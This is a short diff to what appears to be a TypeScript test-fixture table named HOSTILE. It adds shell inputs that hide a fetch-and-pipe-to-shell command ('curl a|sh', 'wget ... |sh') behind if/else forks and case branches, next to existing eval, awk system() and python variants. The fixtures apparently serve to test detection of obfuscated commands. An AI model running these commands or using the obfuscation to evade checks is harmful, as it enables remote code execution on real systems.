@@ -163,6 +163,8 @@ export const HOSTILE: Readonly<Record<string, (size: number) => JsonObject>> = {
   'positional parameters': text('set -- $@ $@ a;eval "$@";', 'set -- curl a;'),
   'reads in loops': text('while read l;do echo $l|sh;done<f;curl a>f;'),
   'awk that starts programs': text(`awk 'BEGIN{system("curl a|sh");"date"|getline d}';`),
+  'forks that hide one another': text((index) => `if a${index};then A="curl a|sh";else A=b;fi;eval "$A";`),
+  'cases that hide one another': text('case $(a) in a) A=curl;;b) A=wget;;c) A=x;;esac;$A a|sh;'),
   'python: literals': code('python3', '-c', `a="curl a|sh";`),
   'python: joined literals': code('python3', '-c', `"c"+`),
   'python: names': code('python3', '-c', (index) => `a${index}="b";f(a${index});`),
